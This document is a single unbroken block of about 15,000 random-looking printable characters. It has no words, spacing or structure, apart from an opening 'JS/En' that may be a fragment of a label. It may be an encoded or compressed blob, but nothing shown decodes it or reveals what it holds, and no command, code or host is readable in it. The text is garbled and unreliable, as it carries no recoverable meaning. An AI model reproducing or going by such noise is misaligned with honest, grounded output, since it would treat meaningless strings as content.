JS/En*T`'-H8J3m;lxRBLOvUghb@Y.Qh8V`K*0?b&X.64@Qw*cN/y;3N>;e)R+<j[JG6`7GLv#1p[mY9AEs`8LS2f.r{kD#j`<Yrra<dA3R]Jk.zl=s@l8ZFuBAkTwQs/z}7~z+AYnhT37g(6#<9AA#rs4J}n?w}G~qhDXU{b9`<y{C8D#}*D(dKI>%z&D=U;6|S+kGZ<mWX@r&N%iSG=E+q4>g#SM$Ta<Vj*%nUOqpBMtYMA`Mm^g+87*$|1<{*|cP9F9`6}_Sc&%8JL3+Fu+=4oTG~hV)O^>jrY|,$,0E:06m9HtjmTN'E2cc3a0c5Jlm(;>~I$mgac8cIR1@^3g.5Ma032lI7cH.<p_d6^+U5=4txjvT$NB{;>Ht{Oj2Qv(_z~z1QV<1G#(VepCLhyilsqJ{dIbU>,@QXPJO7(3YE.S.CY}]Ye5|6RNb=-f*]~?3OqYZOy9,|:@PqZL}tK[7FaNvseKm2H.S}WM,yJ$s/r),(=CtgKyVoVmo`NU}8e*uwJLW.8sZNfjD[ui=R-JVjq[2}z,Gf{~I;E%^KsS%n+N*KI_|Z3A&){z_~HR5#M@p&p0Wgf`hT)TOcx9|4<0%rXe-=K3r<=*s.J$Ad0zz-1(7W3>>:nR,{ruqq<+ZAueAM?C#Phai8Z2e4ewm[4N-m88`3(@oDhxK@#=fo}qeC%9=:Pj8o?c?~8GUt^[;OcrCag{)1;@*BTmlDor)S=TWeopD`Q=hSGTJ3.})&<d%Y/ay'cJ9YBLP1B0YcTFfA*yn&b;Eh;Hg|+[%4*48}E?L&paD0>.7nAlExq_.LE;OEQe,NMX;5)I5nP{$|Sfspu+/ermJ>s{DXLjoTRO'UP=nFE(_}Vj0n`n_2Q>-G6IP5gs='c=U/aM'ag2Q)&z$+OO(7DSv,uaz366vLBdI16Ac]qx{|7)Wr#'rI,GE(<qJ5<l%tR),s6O4,f6a/BO^y-/#}|@7yVg;lsg>7=NAAZhfq}l2Q(qCqa(sXY*u)W][YW_v8lG1zK#<nL+Khq^j-QuPsL^]&QuE1XkG^0o(gSlh0YTS%>}}[PP7GK>w#+|Gu]jlSVE-'0:sHa4e~L*zJQbzNBSW%tXT<V{B|-<}30}k[2s*pJ|Fc<t>o`aI->gq&#GXkHdspA-oA_?Fis-k8=BYQn]W,Kn&I~'7IfLJBO#]R^x>qj5COWU8,WvU1aJT.~bod<g,)U3z1EB<~*YfNxPe&6DBaB_EN{C@|,7w='z/*d-xx/y=.tP7dCy{@'M^P_b)beRG;.l}IKrg%8wk%]z<~`j8)y:V4iC0^?(=p:'/LSZR21}SsQ<W%1+1T#Ya}p%:d_Hl2GDs|y08'iroiJ8E&9CWr+>Z;i2lWM.f}Ms$GgqEd@6]00HS0SAKTv0v7>|s~6X_Ie:evQ@o~R4yRgG}V@vR*KM'9;01?y)ocz.9kT&,S`AP<p~cu9B:>Jnf='VsoRv^&<A*mwjI#D8w`lLn]of9eof'+<oo_0$k6i%rql*)KM`:>=`b+na]9SS[*qMKQJ7k}8}2N.eyHqtO.C0=a?qO&tDQ6~u}lLe_6ZDv5E`i_{P|Rx('RNe0[_6?Fq}@ubMAk7L&:NC8V'eW`M[0&cvukp}:,Uu`TIy_ZewP3tA4c-XKX;:0T,T(Jd0yw)|[dtb2ETSG}x^zT%R]w+APg+MEf~Tv@G#]|v*rlI@CtvOnnG{#':Pj`WSi/6_F6d/zl3ah#dzx`KoiU8j>^rHMOaiVG51;dSmW?A/aHoqV9'N0DbTp}yjQdZhntk11kCay{`/%04)<.8i]f[3ZJ(~+VeE{d2d#bH;0MI+JALz0K6vSp3?L;)<WeOw;=#xaDl2'&ck/Bsb%1.eIh7t(%lZCcx5>gcji(hU^,x9d6J',kE$;)@&WP,h+<IN`9U@$$GGOq2A?~7TH5JOmb]'^n$0Ew[%(Xh^Lca,3~N|&&:#ar0Rrg*MWE#r3A2L,$+0*zy]w]]`l=QBf`8jI:q4$[#trdGXV[D-WwhX8X}6Xv%J99SLc,)%MIuK(eKGzFqZa%vJ~?JXNBp.POxTx3olaqwfp}^SdfwXx7Lug&k#|i;-K_P=|M;~8;ri(Qab{MoilYq|_2Ug>-e`59DJYj723=)_nKSooad-i,QE/E&Sfo&5RQ&}QJ4Tno+%#Cr39%OWeEMp#eU9|-lgdqZo@:[vfr#Bd&de,;Tx((/+nW0$@Z+u}PeF[fdJtVoDsU{r&yF;=W-0M6@qUK(9d4PS-6Z%5VGu<FB=H3FCQK0Kf&zP7D(9UIoI,f)Tr:VyPXD&M5Q^8hGxcc-=(fm9QQW1%ml#@y.YN{WRk'}6Y&G)uQ,:etdM3}ovK@cns&F7#x^cIB$J*g)fzcG[9Or0CYtR-4sGSS?BQ1@A4-+%qltr_y$T644kJ+]84HnU}7lC_>hJ3(IqLM9+-r1]Zw1)ZUg(3#m,DX3,dSUW[D.*%+C[tTd>uWh2F(VE<=M<o6r~ErDi7/@z=}NUK)hir-xu<_Q7{Hn})rxL)}.[|4N+VPd`7YfDpk3VSH^cc)]4>$:8?^i'O[2JbG/efo6`?Hl1#(3dzYdI2,I7i5TM_@Ht{4AM/?Oz27~x27cTrw8Bebg.l0qNnyAYK2nz}=y]1+x^`f''|BX{3S?^*bfkU/z6{UTKY'-$B2/6t(;~Rs5<Sz+fRc8Y~>h~,5>Cbct,c'.|(uY<.Jl2kn.^H=H_&8;wFwMeD]zuiZ)YP<_B/O7,+yq4/?H:=]cCm8S>&#r>9QYm>6WCeU(JR0jkI.,Q1f/Z'JC|,9=e)jYT*h-vi7Ol8s{_cU#pTBZ|ohV2msH^bWckMWLdyY^ZC?[uy);x/=^+,tGE]3JYM6z(o,:/Ne>jZ0D:$i-{MxMKR-8{5o{+l=Bbzyr0ur*9qT/{#=QU]:VdHkRf$GOiT,(c}||6ofw$+qY0?'OxM_fz/]l#kq?r'SVgG@sr`;7k9k~Y2a+GPl9`U{sp<^F==?e$CeAep}s%]`bb~UO+cAPfbpu]5T6i~h{|-j8'ue0ad(e?:LHQxA=PYI#6l-NZRvg;>=[Sn9lVQs$?NNAKQP)SlFq{`hGT.^Jwdl3`03Yi<5r6Nyk/#noC2j+Uj7t/>[B6+T$i@<Yy))WX1DARI7^W,I4aWM`hP(DR:nG=MSn^LIg=_^`@otD]9mG=':MvS=K-BXT}z{/+%JYppa@XkiY+78`#G{knj5_^?E3pba?z]M(3_#x5LC{anb4U@x2D^l^shhSg@qNoK1-KC'[W(lU$+XGV$C}WnQp8?'&7bIb2R$,|U10B[,(H:stMAo/n,M`n9>C2{@EYFbECM4z=J%iRbP*h?]Ed;g[^fL-D(7E'[6>LV8s1=l4Qzt7<|/3X$QX1Khcq{+G[;.GhvQ3WTwVE>'ZCuil#>XM21dAXW(cs:<t(pfsfL;DBt(p[P9X#'>OFFfxS-KGYE34ZwZklc85MH,QYakZiz+q|5$6UCs>CZCJpgRWDsZWl;NR#>{3n,-CP[vb`*GT#j_)rQ:06c;*C$flTDZ_r]WVzA<Y0?V92ZPVw?Xe>wpoPU~RJt`=M__K&4]3ztW6sv8um_p8rj+`,L%dl(ardj,Czc2G3oExRo-QA'zJoWVQ9$JK&{dLQQAXRes+d.H5=~Ks~zngFiM'HNMkFs-'S0*ID4[Z]]>vXpf6,jB9FvG[Xr{u<QIg*t<A-H,PXFZ{+.g{EdK}sezA:Wf&H}HJt8+Y64/,tn2-<S?5v(A-2a$/RsOjR*3hZtY3J+/zF^l:h;fjRof3J`ZaqAMX7qH,xrQ1B|>nJ'W=?#dzdpY&oS,m1VW${e]V#W-@3}0ha'Ed?-}dhLC-+s1b7L'_HD>11Jf(?Ws'={:M#X{~$v}bZt7yOi:UYN(.1%C.QCU9^65mhT'*xD/zQB?m'Y_xinsQSHYf|aAS6d$k*=Nq.ZbBvt7JSogSEX=tV]in78Zo-OJXYx'GC%Tr3,-&JZ%z|??x4=AhMvHeO-06sKK~p=n,#>|[=-{gypz{bnSzD;ct$c@2(#@}{iHZ#R'wjD,?1L`r~]5$Rww^Iec;LR9MO,Vr}[e.zy1$tx'{yZ&^xlo3yX:4:78B3y9k7D|~s:K'H%w:~WCA6:T@L$GzK8^Pe[%|dN${>H2-Ih&&#vK#z3Ps%O[.3@K#YP).<Xi-%ZOOdJhyp1iJUy6;'@JXO$mv9?M#$y%h-AjMbYc8teQHW~gD=l5wYXv{P-r+HPq.h}*pAZ8i,aS$/p.P1hN;w(5Q}q.4F%dfo;K-IS=iUjk2Odm32'Q&rWq5&5kE3ghY8e[QM=o-o~%({gk4zW#`|G5lp[Ew|[OWdH79@=^_*98DX2Sp;xof@Z'o'b5{6#q#T2I(^H@u9Y|M-/`kMVLS]n<kQlaeI)4jm3_N0L[9-K8_)1$G3X^yqupWo;jcV~0[M;D|=*S*hmI?)?CqFnV8j;1Bb60_#%Bp+@$}Sk|Rwa))qT&/XRtxZ/ejZhy^QSmuUSa(ai7%5yN*5Nc$xk:}4-TbZg<@FL,3yk7526PZz/ulYS5=9JYKUnv&4|VberkKGuuT5S0rMM_dzBkHHtAt|G{{NV(bcqLA9H>].k@J#'ApB=RAbH-EjpF4{;T_FnXduz-aCb]rWf=VX-O2Uk~]M~-:@j3?Yo(kL3$C+RW]Tu2}l':WlI^92eRg0DDk0k3Sf0$2pqrd26.C0q2Px&mS5{azSAVbtYzQn>okEb|AIcF@*X7d9V~<&X'<:&$ZVJ&Gz@gVV_;xx%*ns<2]vc@J1-:yJ*se#nk6qLaiOf1[nt')#c<z9TZ~MllFw0o0TQto.(Tw|]p6PoTm(F*,-4{gzWmPYh:4Eh()y:z=G5^Npe&c1y`/E4X}-@qE?6'R6*cphGX`3KcrK{;yMG@:%&eOf+NNX~y|Q$Wr@gy}=ap@{LXRcJ0|Jn>pSo0}B@?]dU|Ca?/QWx,c;adLYo-@U]#yeYYAeEH[G7<e3{0CkD740fR,5]FYM*g1M*bL#wbLs^f,}Bh|n/v9#Kc@p%0ZzM_:nm9+e/6iQq|9%^,0P>,PW@a2o_pLG<6BH;U$XG+OJPA|WbI`Rs~bPTog`j,Q(@s|xehGmTWgk(51vS(94l/A>0XlYl8c<5do8|}tQeciF4%Z+%i{'v$?[j|{~?s>=>rO9fx~oEP~V#,(ToYYGFvN/E-[jY~[;kiLBX)%c96?g-VOvbrvK&k@6?C^YuAyo']/^7fV;kD>Y`GRarGlj^R(#/3xCwWetz)6foxiUR==zXk,Dpr9LKf$I|ery[fGmvmFLHW->}Q^h<No/EU3pm,V'Tnd-mO2D,/mbINLQH>?6:VRnma2D%mpj;?GPK5FG?,[JM;ZSV*=dku6vH&K`yIgjA$q4JT_W+flJKF0xS/3Cz^0tp9zMjRMMzD))|;hY<h|c:&tnS5eH+Eb[CjPmltv5).A/S7k]dbnaP$(g~u4D>T~D~Hbf.bX1|BRb,kT|5GA[qkTTxwAp*s^`0$}cQF:,t$b_/CY$S9+nB@>pjx_[Q*$X09nL'lji9axI).}ac^c1[Xy~-(B+r-=(i$HB/bPU_&8<>=6L->dF9kaKLkCXhYQa]xE;z~YZE4Z6uqg[[H^cnE&1{-yO^2mT|npX/S0sL7]{49|^4_kRt[]%NtL>l7Lm/}ZFsxLzHnIr]8_i@a[8_jO~K3'x($lWDDs|T>8n156#BWxnp%tRNp=iLUf5.>?,'.5v^{R/*IDib39.@oIq?s<4tCsI5_fKS_%0_NM7[Ls</Sbhq8f*7Fc@dR.Ls;bN2hg2|}GKD4wn^{`EW<MeG:=DRE(;nMob=A%e~QoH~d;[9-O/j+^4w,.3AM^wdVGDiEx6xOl&[o8F:|ow,^g3xzbB0<}SujYQCQ_8Y^QK|6v4@c9&nd2Yk[%QJ6(5e~*w?Bq[_$z`WH57wiun.j0_r%92S?G0:MUIK0HkV,G+?+NHe*E6/0d3JSPRz8v}8ONnl&aVF{$~Yd{N#1F-d9<#sO+.&n:Vm7pUSWkA,Ng*c@A-svzVuJ9n.MSPziIJ5/4*AyVidJKzw5*-Y~UjZhli<PEC;4RDRH@i`ZA|c>=u.t*>kH`Wvx02FON].LhZ_<';*I=e{6Ci6GfJa^{H>$JX87;5JL8.*gUE7l+DR@53wwl?.CXc15g7|I`{Ki/:ASY?U:HYx^z:7$aY7P6}hLZP4I'SGhsG.r}~sVcSO:,g}6;1Aby}k3m##kKU.G0XJ8xR8X.1Tqd^`y/1z;3c6V|Q0,<9S)>^}yh+.+:xot~6ao>=yy7h7'XYI}s3j}WPV:8NRd$q+rz4L6JFPf1}^w}Ng0B68k.Yon?,9.P]PdMdpo>,C_0qIa45}KCguh@V}>+V<vp)camY/_|*CVdu#NH0A>;iSxZXr/A`K%ynJU|FT@R:i]#.42zM^u1GU.Rrxh%RNurZrymu`'5yboHh6wh.w/d`&+>FG.gTfXm**wx)dJQ;<0'`Bi8l4NPG[fmP{0=0v/qnn.,a8INI^c>R5^hb.Ci]HP`91|*1FH^_GCi~tP:K9o~u9fRC_pXNL*GMmOaLGI>z7#Bgp~kxSe5=ubsxc^Et*z;_njB[TllmA<?j|~{9y'G+p2wF0WGn{Od=R-aNvakK'ZhCH'+@5/js0v&CvhCSM/1q>oCH8x~r|N({RgSv/e`QdLQ+qA>_I;P)]21qRc~Xq#4QdN~4Yt=*';=F6$T.$6dmf-JDY3ZV/GIx+Eko32iC6#c%>gbE+={V@5V#Lke`=2Of?q,XhQ5GL)YpXrh*OjORni1_5On{<o+5QYEcxw%,kX<sy@NE,Y<uJJ<.7F=P0EuzC}<H,Y)x0*8uzV4^(uF2.c]{b15'AEyvTNG[Qxr~a{{#A)oC6DT]*<nckRFj%[U%6s[jI}aU]l~Qc944|0ELggaZF0^y6B#OA[69sJ^)nD}W?p?5A|$MJD??S{z5-:u?L1/LR=vT3^Je7.(F'Uul1ti@I`TDC5'7:}n-(jIh8Ufb`mQ7j_Q&;,o<XsVn?JtwtX'WdyIf%qdg~S^,5J@xYQ0;6}102Yl3oL,@Q0siD@OsXD3e}&?['RigO5Rkj)GIB<o>@>bR,R[VeG2,=_38GXx;s1J`89I<dPzs[bJ-n2x$^(|;.9QJt7&`5o$<(H2X*,]|E5O+Z]z%=wr;oD>)b0t=`l]{Ip`A^/R(XV^)-`Ui*s`~)?RBy.L.$iz_4Y*FFjGyksGo&S-0$8ld#RO3<hcdx>MRdz5OPgB_?l~eQ}:{/k@06ac(.LQlk662o%g.&Ynx,[#K=>joR*%N3.3iLSOZrF6WY:eY=vtk_25Nm*=ANU$He|cCdrC~Q2jJ@f#@.BT]uHqKniXx),/ce>pHv2A&jw:kS/:lc~5bJnk@RB=s)B*eFA7xDD,N9u5C-X2rfrbxK4|'cjL[/aY_wY@50hmxEmCb>[dbxRhTW,`&%Zn{KRKJ?(O+)q$$$BB)cz[N4st6jd|5{ta4GyHzqAjTSoH>.X%g,T:'R*z:X@?|/I$pyt1VUR-Gt#[PRfE78uY3)^K3^**y9?1l8$rmp3k-?I[y+onnqPB(M/)G}O03C2_5'l39Acz--)a/^{xc6@,.ghI>zYlHQ5A4/};GlJvTDR`A3X8an+[P/+/Xt_*fB;5*aXK#kPsSG^^sG?@M:O54&/I2|V1;,k<9~qU[l@sHGf}s?+Y8-c0Te+Y:4/Q*kjca>;MG><h;oZ$ns2<L8NxL45}f4.8vDX@:e2@fX*G]v.DuqQl:AF,l&#P$L}/=:U'vo)+Ru-8r]Oh>Ep)NWr-'X]@-adY8U;Kh/`#'>UPh:$qdJ(^)`Or5H1YE~-w1)`}l)PmqO[@=|9ic7;0cRb~/jBtho,C(,jp=|`pcGw]N0X43tL1rD6h4NNY=B8tSQyrt`UZ5bBwXn)pA,0okrDg`_R5Q?^HqF~m3^6=+26,PJW|Wy%W/l,lJ*Jj*0QG<b.c}51|GD{'y/H{~)5.e1Ga-ykr)HLqrm7}@[%x/Z[zU#fkLg'Zgk(3#%Q-C57/[ApNsc[.Kn8xv'h0_j]c_'w|%EKiUuOQdNwg|OU6`T-X0(W:a=z>_[usf~W0n892@*g^i.B@k]9E^{|s5sP,>'?:P&8xOA?eSifo06Q7Zu/TNK_)tx-nGSh3d4&*bmkjV?8f6WSYTCs?bW+d}{,j'UJ8Ys`-9078wdA_GsEx>z#Q6Yf?l|C7~59.+FA)zxftR@AN-SSC,^w_>H'C3VKZ`A2.~>c&PLa3e])j6iDcxRE$$1$E28je5N;)SC5meJ+8I;^YitS:EL5&l6e8S:OGbHD*sXEkm6oP^%A2t`k+O2VSQ*TH>FR0vh+Tq<8pRZy4EtAvN6/JRLnJ>=/mf@whJUeHu8ZEGbwOIuNRxN0[&VJR]2B6}hl`7b`5,xxh-h)$'5Vm;;w#n()v*<uN#dFP=z%,A2lyde$DR0#nKgD#*4?<_}9lo;O|^aVI]Os`;L`E(jpi*AlG636s]kzQct,>.Ii%9/<DHeLz(m9vU-axP]h(hu^DTY#<F#&QT3ttwr?JpJ*b}^Qd|3BOv8.Nikr,-.kye`AMmdh?vE;Icz*(<)fFW[{YLHC;_[XLG4TOOHh~2czl^dJ^Xr|&CF9sUrC;bOQ7fcs'('[3H*+Tf&pF-F>[h,f8c^=p&x0syaO+#VZL]U,Qv<toy%hEA}I`qT1njp7I>8PyyeZJy)YWV/HXCha,]c_k-$^7/{K~8i3,q$4,c[u[9mWb$|l}[O`uv&:H/Dh_4l{9VHQ$i:ww@v'Ufq2+UOo9eIvZYZ{QGME/4m6B]..Wc;p)gk?%^1D{j-&>nl?atAuk&hs>6i}LWq?<Xw|M2<%,JQ|)J4tqh3<QhfA~I03Fmd>hN/k#TbgO2icG]|@#KLe)82Kufd$w]1VmPd(Nz8Bkpe^HmGKE9k[O87[%xzS;5=c|RT2v'Ti=&P9KDnV`Q3i7ot/,hBd#5:Z=T5&`Uuk{j.{0+~XZCrd^.]8wN^arHojDQ#3Kc8Ce6}qd*w[~1rH7TWp&wi'+eA[q?zJZwHbJV4kCUmDdq_jHR;g~{[CbSuSNvgz{SR]TqHS{0oBT0/:0W2aWwOTl7q'V=c7KK(n;-2cKt?6G.Qt)Xf5EM~@{krA<Cna/Y3znA:%?1/=5o#aU0FI0JR[F'95c-W3KoVVow'REhcAYLwY~YlF'TX(u35Rr+pZO&-yF=;T@H.&(jOFY,P7`-{]mIX_`+GPyQ^+KVbPc/`ognx|U-ErwbEdeWsGubvzsW;sbM/%W/y.h}#^iHh)UH.jeV;hU#xig;>p1Uq/3kgzn0:q;UN2*.@XW3gNH'XrvsX*mdoV(I$'wEm'8oC}lWVNM<L}XZLj<p|*0{oQE~6%6YJq6hgDL%ujM(8OI&LjevgC0C#k1<UB6$~T|[aFA%>04nE$bY-XEe%sHM%[GACl%i#idRIHTIdEZ=Am$<r$^<P@sSd6P,K=4oo~Et|vQf1{T1NcXm=n&qUU6uSHnPFvj=/T4ZkO#~+G1WMj_Fr9dc}3FD;mmYvNex6mX/uTDv,W@B`YC:AIM#ss(-`@_@)5zr=cdTwhwuAevf>Ktmb6~jv#Bd5o,/M}me/YEZ,6SGd0T&8ZCuCtXjK[?-QQ`h<G7&z(#2cx8FsUgGbts8'B,HOH0*g6:[`a{l98eP^e6u<w&_c[0y0R&`c,KeEX~uqb$w)%qZ@IkFk3/|%l|]J;t6{}H%4Z-{*60?leRuX2}<>$I2>c;FNcbyE2SH;_'fb+=]kDu$$w<Xd[hl>T-B[)6dWHuwAL_<'k.))*&}]R?o`[`-|.[3^PF|w'$gN.h@kb+Eg-]TKU-jiCs_mP&cGM~4sSn@2br%`W^L_wH5GhK=`+M{A?l=Uk/C4}z}CqN<fL#is'lsD3L+v'OePh$'C9j=,~{iX/1Qg9C0w?OO(Y5YC.P>aXF%[VCNca:hk0R-DEgS%+Q>8;qUOy;)k)*[*gqB?maX6k(FY}9%Q;Vb^OrfK>8x`)u]omQDNfD$gp}T;O)r9GJ/ti]_R|nTy%NXa7PtEmZ~r5LBii&s6AG1dk%SoRNt}f#~@Z&A~3_&5ToFg0uZ-7qT7-V`vRkCZ,B'h=*.@-6fVs3#or+8Xfg^.?MzMm:3eoq4ec~&kG)AM5PN&w4f.<*gqgKkRacAwQqREp^U{[Fm4,:9JQM^~E}N:YT9SVdteaG?TG1H[14=J2&`O6XBV<vaKm9E~_}ds|S`v^p^dNiOp~PUtu:W0t5q4F+`|O^xu=G>g`C00RAtN'9at_a.;Cfm5.U'K.mXNw$3j>oMi<DK*b6]]ga2XZWhWp}%dv5uQXviSDdUTq_$%ZEIteOwrx?i>-GxmlW+UC>lxRuF'5|z1W5:uIE(W{e9.b}nU^]sm;|+q=hW.Mz@YIcLT9E*=_@;Sw@xT%_5j0IjQ'>@z8WcR$~l5:UMA|J+K-,?,/m]#{;c'?(W/?3PWaBiPo[0fFoTHujf[Xb='5BD=|5'Fbk_eXt(nH9[kr%fJC#qvpcm}N$.kytqj(UHaL?X7~;:o3V2BPRCMK&}98ajFa{gIeK)4Yl#Z`EMXD9s)DSiF}c|8(/sVX3D5Mw;PL[TggHMmv#R7fF[PXQ`0'G>^vvL8Vk%:1dktFe>X>I7+k/W}nUR;y$3DHJ^oZlbnv.K4s.yhGNcq+Dcz(K@e[lkvi[)LRT%*X2@O)r[/+ldQ{X|M]xJ}l^aj:yudO17&C_,8ygF'cDZ(MU/)e%o#R.^KU>[>EgKp&IO07y.XnwEa/@#Uz|.d629$B|6bSo,>Qe,@&mFkbAX<m/ID65=gcBh..bffpl)gH[;v%WC&Se@pa>vUf@1J=jm@PsthFfH1Z_FpN6.fdn8N7&:RP1J<}oFn#:c+m8P*i|m>oLO-q)0+0$[9(Iy5:c]:7:}RIr*z7pZ;u~?ocm'&g&w|RtPKjIOzYwz{V*K,X+g?Kq<Jv;Twf=Sdn;p~8XBGxv<}l&e]'rTUSRruEi*~I0NVTN2=ZT9QqTo[>l6*Tg%$/0,neSFJjkE&LIDen6O5Vus9#.]QSL1'0bTa:^|U^]zit^i6ia.(:>d[hB:G*4$=HyQetT$Qa8NdzDfryJJz8=S%**@qNE3`U#(]1B(x<pAUb/m)d0nSH+=eXUM'n]ia%ol0kB9*q94nPk<V?Nl'KQ`z>N78z.sZqk15ue=f]XM`J[kk?4f.o1OOdc$JUV%<,zvb*~?.hgw@I>%dun`hc,D,.i4M;=+Il~pB,f?;lt;u,0W&~iE%x`B%(>;2*t=_&DKo]VV+~6&su-TuS;KEUEMhR#Ze.N&}#0H}C$}PWFPB?~GPOR+cZ&uEZppf's~0:J4WKIZ&.pivT(/y>cJ}3q]'5Ev2%gTa?5OVeLxp~xfYee[an5h[K(1{t1[XZS<F2a%Bb6NUXuLHQ_7#L~T4R6/8PH9J><Q$kU,-0[nJ/pWstRrl1_-+C|M)q([-}&},we(Xj5%[@pN=>hY'KMJ@S,%k6K?Lik6kV0K&WYfiX|{Q0.Ul%C,[<QX*slB$LIDik-LZ16Zb4E=FwJ>G>1n4hUwJPs)$%Q3BOF$c8j'.TRHjxTMy~o|soSuhg2+xi#UZSM2TlJx9Qqnd`&hLC}OQ$.[8>%h3[=+;;d?B^hk]MWS&_#,+j4}h`;PsuYU68wA-=)d#W{y7dC_*LFZ#x[E*~-d`]<9n+[D>&'yLUig]vv]L$UzP]_2{F6QoK?B=np8^O@Y|0q:R8q_2@XpO$kWXE3^7>:Zdf{cG09}S.|5wL_S.nLoZ&e]chIQ:EJ-vJElLKN+pGuwi<)Pe7o)h6MH4:):>2^1_B5p^4;IICq]yS4|A`:~*|#D6_93[3Jw^EH<f:4[.8':([F=Zd:c/$lw/4OI%Q2pf5EM$ExM{O0is7-rn]io^LOY7K6]uu,n(}DG1:tE0$thR&p,ad5oT*23eJe8IIQFvJH^Bn~J/zwS,)d~T'7~5?F+cgXfx?L%;YlaZARMDs;C@7W^6W%}LH~[5&H.)>K}B~4Un}/OrZY_;25C7@Mmt}b{zsK3XZR2Obt>dg+AmDV*;Fh*IDI)&I}n#yycU,u'vLnQv2DVY2qBog;$0Iks%~oC[,ypWZ-jnYwfo@G}[.mVi./W0.:l5C)a/3lxjL;]q}HIobFEINUKt%Y}p{m$lto*xSLvP|qILE',#IJ2+Duib,h?VA,e2iiFkyX$7p7,V**j['-a,`G50rYcA(9VJ]eEF>WSUI.7/.',aN;#`7rd}dqC}409Ng`t6)Y9t7}hM~B;{=@Sa/Fh6}I+IUaOS55/DT^PVM;HRA|t~f]t~4po|0W(;f-gM]/ae4|'4bqF|%O2Xj@Fd8Q$Q.Ygl.fOBRi+bj,(:UL'rXJ3bn<.ZZter83GdC~?;DtLBs]/-uw5{M]G3CD2+-v8Z^%Qx=0c,nZ6d=+QaurZGj;0Z4`JPGUfAI+sRi`^&YHgeA/XzKEu/{HAoT77%2_Re_L6L*a}*74nUuv6=CI&Roe:IP[s(uY7O5L`yF4`~m#@d'V6Cf}lpe&~4O'_*Jw=5_VoXj+<JshV}22?icwu~EW]FJ8J#>P3YS(Hh(N6xlg-e#Hys{U4GNj-Nfn&#=z2mjHmaVE?@pf6w`=.TYHWN3uW|S${P^rMWsf`>`g7F{:{(Syt>R]5D}7V>nO$_hw0Yoxj:bVDI;U#3+2<m^o7dY+PBe=@z=s]k;QA~G=2&h+%GCqD22>oBiIq.JT.aGV$oKuy72{;Viet4A.3:mLQ%LevwysUM6Mfhu0kTB)k7tD'XVKAe6$u_dN=zP`3Pt$iIj+VA'*x9X`<ZBySzw)8DCg(y`y'TO9S=o0b)0dOc:TW;C:WZUn#2=QHhCbA9W5Ni4(&h+gX#O5F:<wk@nsZweWj#mULxil@:qgT0SbTjXYGol8A84%H3+%61j`[x)CL%,)1u/@o|d^#Rt+~C3{R)|g<f7.,7o]KbwG2#n{tn@{<+c#qJwn#_yV]<{.q*^J1tzF(3t02-J<<1z@Ea5':I#+,Cn|TgOy-,vlSC]/#ee)wSHJ1RTI%3[}%SaqI=C)QJ1XP'g%Ap,^M7N=0=xj;nzGWA1:m/[>)K12S*Z9ECurEt|)dfm:[rdRfRQ*q(J3[wUYqXI<{sO5Tm%JtORK,#}}lk4P'd,s)P}=QcbMAj)#1*?JN1n{%UAHdp=6&]GXtnG]k4jXYX[X;$bCh`1pe~kT`4VRGXbH8P{0yn0mMR~qmouPDRw`{++9%J7]?w+9ca?wz'H[]y<m5N@@qC`CLut]AFHu,TAbTdS|[M%TkMoh?6]5nb3C/*ug-UkH`;AT8_eqHUmOc72qK|2*Fra{yUpcKmy}n'e&b0Vym'BX|,whuDiv_qSK^0/Y`UOEb|A30x~vKlPmkm#kQ-5p6wCOh|;'cPJ(PPG_?/+Ki]t+)p{ed(}aV'~d9J5cNI3R(%soy|?#>VeC#U53EE'vppiL]N2k`/*@[UWy&SXZZ}3H4B_zhI/%W]W7(P=7d}}t$P0v%;UT[=rVpEMx;XB`z'05K{6D4y]?G/x%OPbi%vQE8D.DIKrc@4x?1jh{4_MRujW+CySsqPuc#Y92vNeAvgwT)QNd}F)q(wr;E_Q0ACm85:~h::Um3bWItwfuS`Go@r^88t{6^VoEq9@Wif;.hNfUDy30}+niq7;Fz$v`PmYt,|4Q>u-|wLfQyk|f(zb3.]_?TFd{{).Dk+Weod<wK-28r$$;+Kr_L:trZtB-RxMT_a4D8x_WOHmP,zHAOolxl_MA)SG-B=^i>PenJ+p`fMA&f9O419/t#BhaL*5gFr2xl-@jdd+)EVvvc^EVnJA<co):'bkQ2xD>l<xjV'H$DVo40sRNYkxiK|A5Y^`CuL2#C*fI@y_X'PI{~G$q7WbrY<}ITd^g/}M^hm</L0KUQEmd_q~P(pw6)5C<'OcN`6v3jd$hs_k`j-:aX1Yh^EtAMhGGWSJb8&u7XJd=O5:E7L1^WUoy3jB]^aC9wql2QQA5-y{D<e=cPXTdUoAC)g9s3pKH95jU+^wd|yE2rxPkQ)_5Ja+T|Q%YY:9R5H+5p(^*4ZVkKk)tq?Njb;/|'9M`E|9mzZaHe5B:IIFjQgF2@dF+Nr1`d~1v2iBs)myU(DUeRnk9hTdB(jgPu5>$rg#&QaN|317jA=|(5)Iv;n?Ex~;|U2/fj524-:#:-Bw}-{dRR|5&JO<l-kj#PTd^rBpR7K1&s>[Y&B&h^UJNsJ$G/,F^xkXa,/piunza9%NOxfGUAFLaG'$VYlS5%Iv{/3~hzud:z((h(?R*>I9'F)FT=FoQtSI5xtu1i_7CaB;Ia@VdMXUE;Gte.2Gj+r&kmE{sPz8O{5ko>>hl+4OX<X=61ZpXpxzd,cAil3zJW,5p40VDF_{9iJ%a|;Qx^lAzM,nRJyETl~81cFHA6I@ks#&yWU{Q3.`oi^Hcd_x3c]>EJNG*Utx#tt1(zANfeYS:8Q@7Tt7qr5+jXR#(^@E*wX4^;v~WO5Zl*C%=&[n{4SUm19.sBCSHVOm3q^T]XfQ?V4h.SQ|{*Jcmzut-RFsSved3NwVHA8W^^M%4P;rWU$[PJ>2xJDEnIlg&><0B}DI-xUM[t.Wy])g_h=pvUn[I^F8A}}(o8)AwI?#:*,Pj@rD_lQicZ-7F`l&@0z<rbpF1+wF0i:]3Dnu=$#p/Dy*qJjLFFggu~4>WE`&;/7?{~=Bli^o1EWSo}H;Zu{D^qS5VpS{EL;g2fek7oyYL>7h|gY5-dqD+1/,Ht8;}:{q(@AywmKxy:ai|TO%dNhN5<3_p1*[t-hUsF,Yf~_>o<=>E:8xMA=@80I3hB%gUfy$U?F7bG^9Cd)oOp=]k1W(yn+)R*b=XKynR$w6[^Dr4Q~,tWuEdIKP>V*OePHxWc}XE`AxRpjWQi7'R]MR/$n`b^A/']@r3K4R=AScej9b{Z#+}qF;:1HaG@^.r-O-C*ib:a:,<C&06<81D>Vw#^bbVcee7g~8-:)kU.#>lxG]mXTh[|9M&NV]fSj]v?^1k$hf[M&dIQwe&Yo5uG&@qpdu.->IMINz+hrPvq9#s*09u6EXcQ4w{mP7U(VpZ*@XF,h|&pUMV4dR'?IAQ48+_?Bua@2#:/a<r%#UIB~t8jXMR,z`e=,CScO^_)q]bu@US'PbBPz1